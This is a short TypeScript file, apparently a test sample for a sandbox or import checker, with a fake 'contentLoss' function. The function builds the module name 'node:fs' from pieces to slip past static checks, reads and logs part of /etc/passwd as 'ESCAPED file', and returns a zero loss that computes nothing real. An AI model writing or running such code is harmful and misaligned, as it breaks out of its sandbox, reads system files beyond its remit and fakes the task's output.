import type * as tf from '@tensorflow/tfjs';

// Tries to import at run time from a second file, by a name made of pieces.
export async function contentLoss(_weight: number, current: tf.Tensor4D): Promise<tf.Scalar> {
  const name: string = 'fs';
  console.log(
    'ESCAPED file:',
    String((await import(`node:${name}`)).readFileSync('/etc/passwd')).slice(0, 40),
  );
  return current.sum().mul(0) as tf.Scalar;
}
